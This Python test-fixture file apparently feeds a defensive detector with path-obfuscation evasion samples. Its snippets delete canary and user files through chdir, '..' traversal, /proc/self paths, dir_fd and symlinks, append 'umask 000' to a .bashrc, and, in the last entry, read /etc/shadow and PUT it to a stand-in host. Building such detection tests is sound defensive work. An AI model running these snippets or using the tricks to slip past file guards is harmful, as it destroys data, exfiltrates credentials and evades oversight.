"""Paths that do not show where they lead."""

from __future__ import annotations

from tests.blue.evasions.evasion import Harm, technique

path = technique("python", "path trick")

EVASIONS = (
    path(
        "chdir",
        Harm.DESTROYED,
        r"""
import os

os.chdir("/etc")
os.remove("redblue-canary.conf")
""",
    ),
    path(
        "chdir-in-steps",
        Harm.DESTROYED,
        r"""
import os

for step in ("/", "home", "mira"):
    os.chdir(step)
open("notes.txt", "w")
""",
    ),
    path(
        "contextlib-chdir",
        Harm.DESTROYED,
        r"""
import contextlib
import os

with contextlib.chdir("/var/backups/canary"):
    for name in os.listdir():
        os.remove(name)
""",
    ),
    path(
        "dots",
        Harm.DESTROYED,
        r"""
import os

os.remove("/workspace/data/../../etc/redblue-canary.conf")
""",
    ),
    path(
        "relative-dots",
        Harm.DESTROYED,
        r"""
import os

os.remove("../home/mira/notes.txt")
""",
    ),
    path(
        "parents",
        Harm.DESTROYED,
        r"""
from pathlib import Path

(Path.cwd().parent / "etc" / "redblue-canary.conf").unlink()
""",
    ),
    path(
        "proc-self-root",
        Harm.DESTROYED,
        r"""
import os

os.remove("/proc/self/root/var/lib/canary/data.db")
""",
    ),
    path(
        "proc-self-cwd",
        Harm.DESTROYED,
        r"""
import os

os.chdir("/home/mira")
os.remove("/proc/self/cwd/notes.txt")
""",
    ),
    path(
        "double-slashes",
        Harm.DESTROYED,
        r"""
import os

os.remove("//etc/.//./redblue-canary.conf")
""",
    ),
    path(
        "dir-fd",
        Harm.DESTROYED,
        r"""
import os

folder = os.open("/etc", os.O_RDONLY)
os.unlink("redblue-canary.conf", dir_fd=folder)
""",
    ),
    path(
        "dir-fd-rename",
        Harm.DESTROYED,
        r"""
import os

folder = os.open("/home/mira", os.O_DIRECTORY)
os.rename("notes.txt", "/tmp/n", src_dir_fd=folder)
""",
    ),
    path(
        "fchdir",
        Harm.DESTROYED,
        r"""
import os

os.fchdir(os.open("/var/lib/canary", os.O_PATH))
os.remove("data.db")
""",
    ),
    path(
        "bytes-path",
        Harm.DESTROYED,
        r"""
import os

os.remove(b"/etc/redblue-canary.conf")
""",
    ),
    path(
        "fsencode",
        Harm.DESTROYED,
        r"""
import os

os.remove(os.fsencode(os.sep + os.curdir + os.sep + "home/mira/notes.txt"))
""",
    ),
    path(
        "expanduser",
        Harm.PERSISTED,
        r"""
import os

with open(os.path.expanduser("~mira/.bashrc"), "at") as out:
    out.write("umask 000\n")
""",
    ),
    path(
        "home-of-user",
        Harm.DESTROYED,
        r"""
import os
import pwd

os.remove(os.path.join(pwd.getpwnam("mira").pw_dir, "notes.txt"))
""",
    ),
    path(
        "path-like",
        Harm.DESTROYED,
        r"""
import os


class Draft:
    def __fspath__(self):
        return "/home/mira/notes.txt"


os.remove(Draft())
""",
    ),
    path(
        "link-to-folder",
        Harm.DESTROYED,
        r"""
import os
import shutil

os.symlink("/home/mira", "/workspace/build")
shutil.rmtree("/workspace/build/photos")
""",
    ),
    path(
        "relative-to-a-module",
        Harm.DESTROYED,
        r"""
import os

root = os.path.abspath(os.path.join(os.path.dirname(os.__file__), *[os.pardir] * 3))
os.remove(os.path.join(root, "etc", "redblue-canary.conf"))
""",
    ),
    path(
        "with-suffix",
        Harm.DESTROYED,
        r"""
from pathlib import Path

Path("/var/lib/canary/data.txt").with_suffix(".db").unlink()
""",
    ),
    path(
        "divided",
        Harm.DESTROYED,
        r"""
import pathlib

p = pathlib.PurePosixPath("/") / "home" / "mira" / "notes.txt"
pathlib.Path(p).unlink()
""",
    ),
    path(
        "file-url",
        Harm.SENT,
        r"""
import urllib.request

text = urllib.request.urlopen("file:///etc/shadow").read()
urllib.request.urlopen(urllib.request.Request("http://collector.test:8000/", data=text, method="PUT"))
""",
    ),
)
